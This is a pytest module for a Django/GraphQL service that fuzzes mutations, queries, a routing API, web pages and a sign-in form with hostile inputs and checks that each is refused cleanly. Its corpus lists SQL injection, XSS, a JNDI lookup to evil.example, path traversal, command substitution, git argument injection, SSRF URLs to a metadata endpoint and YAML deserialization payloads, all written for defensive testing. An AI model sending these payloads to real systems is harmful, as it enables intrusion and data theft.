"""Hostile input bounces (issue "Reliability and security", item 6).

A corpus of bad inputs for every kind of argument is sent over HTTP to every input field of every
mutation (found in the schema; the base inputs are the permissions matrix's, sent by the role that
may write, so that validation, not permission, answers) and to the arguments of the queries, the
FIT-Connect routing API, the web pages and the sign-in form. Each is answered with a clear error
(`errors[].field`/`code` in the payload, a GraphQL error, or a 4xx), never a 500, never a stack
trace in the body; nothing is written (audit rows and the rows of every model are counted around
each request, which runs in a savepoint that is rolled back afterwards so that one accepted
value cannot mask the next); and the server still answers.
"""
import base64
import json

import pytest
from django.apps import apps
from django.db import transaction
from graphql import GraphQLEnumType, GraphQLInputObjectType, GraphQLList, GraphQLNonNull, GraphQLScalarType

from api.schema import schema
from fitstore.models import AuditEntry
from tests.api.test_permissions_matrix import CASES

pytestmark = pytest.mark.django_db

CONTROL = ["\x00", "wohngeld\x00", "a\x00b", "\x1b[31mrot\x1b[0m", "a\r\nSet-Cookie: x=1", "\x7f", "\u202egnp.exe",
           "\ud800", "\ufeff"]
INJECTION = ["' OR 1=1 --", "'; DROP TABLE directory_authority; --", "\" OR \"\"=\"", "<script>alert(1)</script>",
             "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "../../../../etc/passwd", "--help",
             "--upload-pack=touch /tmp/pwned", "-oProxyCommand=x", "$(id)", "`id`"]
LONG = ["x" * 10_000]
# Leading and trailing white space is stripped by the services and state codes are case-blind,
# so " 09188", "wgb:x\n" or "by" are accepted spellings of valid keys and not in the corpus.
ARS = ["0", "09a", "0918", "0918801131130", "09188\n0", "٠٩١٨٨", "０９", "0 9188", "-9188", "09188 OR 1=1", "0x1F"]
LEIKA = ["99", "9910702300000", "991070230000000", "12107023000000", "99107023\n000000", "٩٩١٠٧٠٢٣٠٠٠٠٠٠",
         "99107023e00000", "+99107023000000"]
IDENTIFIER = ["wgb:", ":010540880000", "WGB:x", "wgb:x y", "wgb:x\ny", "wgb:" + "x" * 200, "wgb:../x", "wgb:x;rm"]
STATE = ["XX", "DE-BY", "B", "B\nY", "BYY", "БY"]
SLUG = ["../wohngeld", "wohngeld'--", "WOHNGELD ", "wohngeld/..", "wohn geld"]
URLS = ["file:///etc/passwd", "ext::sh -c touch% /tmp/pwned", "fd::17", "ssh://git@github.com/x/y.git",
        "git@github.com:x/y.git", "http://github.com/x/y.git", "https://127.0.0.1/x.git", "https://[::1]/x.git",
        "https://169.254.169.254/latest/meta-data/", "https://[::ffff:169.254.169.254]/x", "https://0x7f000001/x.git",
        "https://2130706433/x.git", "https://github.com@evil.example/x.git", "https://user:pw@github.com/x/y.git",
        "https://gіthub.com/x/y.git", "https://xn--gthub-n4a.com/x/y.git", "https://github.com:22/x/y.git",
        "javascript:alert(1)", "https://github.com/x/y.git\n", "//github.com/x/y.git", "https://localhost/x"]
PEM = ["-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----",
       "-----BEGIN CERTIFICATE-----\n" + base64.b64encode(b"\x30\x82" + b"\xff" * 300).decode() + "\n-----END CERTIFICATE-----",
       "-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----", "garbage", "-----BEGIN CERTIFICATE-----"]
SPDX = ["MIT AND (", "GPL-2.0+ WITH", "MIT OR OR Apache-2.0", "(" * 500 + "MIT", "LicenseRef-<script>", "NOT-A-LICENSE",
        "MIT\x00"]
TAGS = ["--upload-pack=x", "-v1.0.0", "../x", "v1.0.0..", "refs/heads/main", "v1.0.0.lock", "@{-1}", "v1 .0.0",
        "v1.0.0^{tree}", "HEAD", "v1.0.0:publiccode.yml", "~1"]
MONEY = ["-1", "-0.01", "1e9999", "NaN", "Infinity", "1.001", "１２３", "٠", "0x10", "99999999999999999999999", "1,5", "1 000"]
GLOBAL_IDS = ["", "not-base64!", base64.b64encode(b"Subscription:1 OR 1=1").decode(),
              base64.b64encode(b"User:1").decode(), base64.b64encode(b"Subscription:-1").decode(),
              base64.b64encode(b"Subscription:99999999999999999999999").decode(),
              base64.b64encode(b"Subscription:\x00").decode(), base64.b64encode(b"ApiToken:1e3").decode()]
SERVICE_URI = ["javascript:alert(1)", "JavaScript:alert(1)", "file:///etc/passwd", "data:text/html,<b>x</b>", "no-scheme",
               "../x", "urn:x\x1b[2J", "urn:x\u202e", "1urn:x"]
UUIDS = ["not-a-uuid", "00000000-0000-0000-0000-00000000000g", "{" * 40]

# Argument kinds by field name (camelCase, as in the schema); every other String/ID is free text.
KINDS = {
    "ars": ARS, "leikaKey": LEIKA, "leikaKeys": LEIKA, "identifier": IDENTIFIER, "authority": IDENTIFIER,
    "stateCode": STATE, "providerState": STATE, "onlineService": SLUG, "slug": SLUG, "repositoryUrl": URLS,
    "address": URLS, "serviceUri": SERVICE_URI, "certificatePem": PEM, "license": SPDX, "tag": TAGS, "annualCost": MONEY,
    "oneTimeCost": MONEY, "subscription": GLOBAL_IDS, "token": GLOBAL_IDS, "endpoint": GLOBAL_IDS,
    "destinationId": UUIDS, "version": ["", "x" * 100, "\x00"], "criterion": ["C6", "C0", "c1", "C1\x00"],
    "standard": ["urn:x\x00", "x" * 500, "urn:unknown:standard"],
}
# Free text (names, notes, reasons) may hold quotes and angle brackets; control characters,
# NUL bytes, lone surrogates and huge values must still be refused there.
FREE_TEXT_REFUSED = ["\x00", "a\x00b", "\ud800"]


def _unwrap(graphql_type):
    while isinstance(graphql_type, (GraphQLNonNull, GraphQLList)):
        graphql_type = graphql_type.of_type
    return graphql_type


def _is_list(graphql_type):
    if isinstance(graphql_type, GraphQLNonNull):
        graphql_type = graphql_type.of_type
    return isinstance(graphql_type, GraphQLList)


def input_fields(mutation: str) -> dict:
    argument = schema.graphql_schema.mutation_type.fields[mutation].args["input"]
    input_type = _unwrap(argument.type)
    assert isinstance(input_type, GraphQLInputObjectType)
    return input_type.fields


def corpus_for(name: str, field) -> list[tuple[object, bool]]:
    """(value, must_be_refused) pairs for one input field."""
    kind = _unwrap(field.type)
    wrap = (lambda value: [value]) if _is_list(field.type) else (lambda value: value)
    if isinstance(kind, GraphQLEnumType):
        return [(wrap(value), True) for value in ["NOT_A_MEMBER", "\x00", "' OR 1=1 --", ""]]
    if isinstance(kind, GraphQLScalarType) and kind.name == "Boolean":
        return [(value, True) for value in ["yes", "\x00", 2]]
    if not isinstance(kind, GraphQLScalarType) or kind.name not in ("String", "ID", "Decimal", "UUID"):
        return []
    if name in KINDS:
        values = KINDS[name] + CONTROL + INJECTION + LONG
        if name == "slug":  # Django's slugs may begin with hyphens; "--help" is a valid (if odd) slug
            values = [value for value in values if not value.startswith("-")]
        return [(wrap(value), True) for value in dict.fromkeys(values)]
    return [(wrap(value), True) for value in FREE_TEXT_REFUSED] + [(wrap(value), False) for value in INJECTION]


def model_counts() -> dict[str, int]:
    return {model._meta.label: model._default_manager.count()
            for config in apps.get_app_configs() if config.label in {"store", "directory", "licensing", "fitstore"}
            for model in config.get_models() if not model._meta.label.startswith("fitstore.Search")}


def assert_no_internals(response):
    body = response.content.decode("utf-8", "replace")
    assert response.status_code < 500, body[:500]
    for leak in ("Traceback", 'File "/', "django.db.utils", "psycopg", "sqlite3.", "IntegrityError", "DataError"):
        assert leak not in body, body[:500]


def clear_refusal(response, mutation: str) -> str | None:
    """None when the answer is a clear refusal, else a description of what came back."""
    if response.status_code in (400, 413):
        return None
    content = response.json()
    if content.get("errors"):
        codes = {(error.get("extensions") or {}).get("code") for error in content["errors"]}
        return None if "INTERNAL_SERVER_ERROR" not in codes else f"internal error: {content}"
    payload = (content.get("data") or {}).get(mutation) or {}
    errors = payload.get("errors") or []
    if errors and all(error.get("code") for error in errors):
        return None
    return f"accepted: {json.dumps(content)[:300]}"


def _send(graphql, case, variables, token):
    return graphql.post(case.document, variables, token=token)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.mutation)
def test_every_mutation_input_bounces_hostile_values(case, graphql, make_user, make_token):
    role = case.allowed
    actor = make_user("actor", role=role.role, state=role.state, online_service=role.online_service)
    token = make_token(actor)
    base = case.variables(actor)["input"]
    fields = input_fields(case.mutation)
    accepted, written = [], []
    tried = 0

    for name, field in fields.items():
        for value, must_be_refused in corpus_for(name, field):
            tried += 1
            with transaction.atomic():
                counts = model_counts()
                audit_rows = AuditEntry.objects.count()
                response = _send(graphql, case, {"input": {**base, name: value}}, token)
                assert_no_internals(response)
                problem = clear_refusal(response, case.mutation)
                if must_be_refused:
                    if problem is not None:
                        accepted.append(f"{name}={value!r:.60}: {problem}")
                    if AuditEntry.objects.count() != audit_rows or model_counts() != counts:
                        written.append(f"{name}={value!r:.60}")
                transaction.set_rollback(True)

    assert tried > 0
    assert written == [] and accepted == [], "\n".join(["written:", *written, "accepted:", *accepted])
    assert graphql.client.get("/healthz").status_code == 200


def test_the_corpus_reaches_every_mutation_and_argument_kind():
    kinds_seen = set()
    for case in CASES:
        for name, field in input_fields(case.mutation).items():
            if corpus_for(name, field):
                kinds_seen.add(name)
    assert {"ars", "leikaKey", "identifier", "stateCode", "repositoryUrl", "address", "certificatePem", "license",
            "tag", "annualCost", "subscription"} <= kinds_seen


QUERIES = {
    "region": ('query Q($v: String!) { region(ars: $v) { ars } }', ARS),
    "state": ('query Q($v: String!) { state(code: $v) { code } }', STATE),
    "onlineService": ('query Q($v: String!) { onlineService(slug: $v) { slug } }', SLUG),
    "authority": ('query Q($v: String!) { authority(identifier: $v) { identifier } }', IDENTIFIER),
    "routesLeika": ('query Q($v: String!) { routes(leikaKey: $v, ars: "09188") { authority { identifier } } }', LEIKA),
    "routesArs": ('query Q($v: String!) { routes(leikaKey: "99107023000000", ars: $v) { authority { identifier } } }',
                  ARS),
    "search": ('query Q($v: String!) { search(q: $v, first: 5) { totalCount } }', []),
    "node": ('query Q($v: ID!) { node(id: $v) { id } }', GLOBAL_IDS),
}


@pytest.mark.parametrize("name", sorted(QUERIES))
def test_query_arguments_bounce_hostile_values(name, graphql, make_user, make_token):
    document, corpus = QUERIES[name]
    token = make_token(make_user("gw", role="gateway"))
    audit_rows = AuditEntry.objects.count()

    for value in dict.fromkeys(corpus + CONTROL + INJECTION + LONG):
        response = graphql.post(document, {"v": value}, token=token)
        assert_no_internals(response)
        content = response.json()
        codes = {(error.get("extensions") or {}).get("code") for error in content.get("errors") or []}
        assert "INTERNAL_SERVER_ERROR" not in codes, (value, content)
        if content.get("errors"):
            assert all(error.get("message") for error in content["errors"])

    assert AuditEntry.objects.count() == audit_rows
    assert graphql.client.get("/healthz").status_code == 200


def test_a_one_megabyte_argument_is_refused(graphql, make_user, make_token):
    token = make_token(make_user("gw", role="gateway"))

    response = graphql.post('query Q($v: String!) { region(ars: $v) { ars } }', {"v": "9" * (1024 * 1024)},
                            token=token)

    assert response.status_code in (200, 400, 413)
    assert_no_internals(response)
    assert response.json()["errors"]


def test_yaml_bombs_and_hostile_publiccode_are_refused():
    from django.core.exceptions import ValidationError

    from store.repositories import parse_publiccode

    bombs = [
        b"a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n",
        b"!!python/object/apply:os.system ['touch /tmp/pwned']",
        b"a: !!python/name:os.system\n",
        b"[" * 10_000,
        b"\xff\xfe\x00",
        b"x" * (2 * 1024 * 1024),
        b"- a\n- b\n",
    ]
    for bomb in bombs:
        with pytest.raises(ValidationError) as refused:
            parse_publiccode(bomb)
        assert list(refused.value.error_dict) == ["tag"]


# --- the FIT-Connect routing API, the web pages and the sign-in form -----------------------------

def test_the_routing_api_answers_hostile_parameters_with_4xx(client, make_user, make_token):
    token = make_token(make_user("gw", role="gateway"))
    headers = {"HTTP_AUTHORIZATION": f"Bearer {token}"}

    for value in dict.fromkeys(ARS + LEIKA + [c for c in CONTROL if c != "\ud800"] + INJECTION + LONG):
        for params in ({"leikaKey": value, "ars": "09188"}, {"leikaKey": "99107023000000", "ars": value},
                       {"leikaKey": "99107023000000", "ags": value}, {"leikaKey": "99107023000000", "areaId": value},
                       {"leikaKey": "99107023000000", "ars": "09188", "limit": value, "offset": value}):
            response = client.get("/fit-connect/v1/routes", params, **headers)
            assert_no_internals(response)
            assert response.status_code in (200, 400, 404), (params, response.status_code)
        response = client.get("/fit-connect/v1/areas", {"areaSearchexpression": value}, **headers)
        assert_no_internals(response)
    assert client.get("/healthz").status_code == 200


PAGES = ["/", "/katalog/", "/laender/", "/regionen/{v}/", "/themen/{v}/", "/katalog/{v}/", "/lebenslagen/{v}/"]


def test_web_pages_answer_hostile_parameters_without_errors(client):
    for value in dict.fromkeys(["\x00", "a\x00b", "' OR 1=1 --", "<script>alert(1)</script>",
                                "../../etc/passwd", "x" * 10_000, "%00", "٠٩١٨٨"]):
        for page in PAGES:
            path = page.format(v=value.replace("/", "%2F")) if "{v}" in page else page
            for params in ({"q": value}, {"page": value}, {"state": value, "lifecycle": value, "topic": value}):
                response = client.get(path, params)
                assert_no_internals(response)
                assert response.status_code in (200, 400, 404), (path, params, response.status_code)
                if response.status_code == 200 and "<script>alert(1)</script>" == value:
                    assert value not in response.content.decode()


@pytest.mark.parametrize("username, password", [
    ("anna\x00", "pw"), ("\x00", "\x00"), ("anna", "a\x00b"), ("x" * 100_000, "pw"), ("anna", "x" * 100_000),
    ("' OR 1=1 --", "' OR 1=1 --"), ("<script>alert(1)</script>", "pw"), ("anna\r\n", "pw"), ("\x1b[2J", "pw"),
])
def test_the_sign_in_form_bounces_hostile_credentials(client, make_user, username, password):
    make_user("anna", password="a-long-enough-password")

    response = client.post("/accounts/login/", {"username": username, "password": password})

    assert_no_internals(response)
    assert response.status_code in (200, 400) and "_auth_user_id" not in client.session
    assert "<script>alert(1)</script>" not in response.content.decode()


def test_web_forms_bounce_nul_bytes_and_write_nothing(client, make_user):
    client.force_login(make_user("k-by", role="coordinator", state="BY"))
    from tests.licensing.support import load_agreement

    load_agreement()
    audit_rows = AuditEntry.objects.count()

    for value in ["\x00", "Dr. A\x00", "x" * 100_000]:
        response = client.post("/land/BY/beitritt/", {"signatory": value, "confirm": "on", "accept": "on"})
        assert_no_internals(response)
        assert response.status_code in (200, 400)

    assert AuditEntry.objects.count() == audit_rows
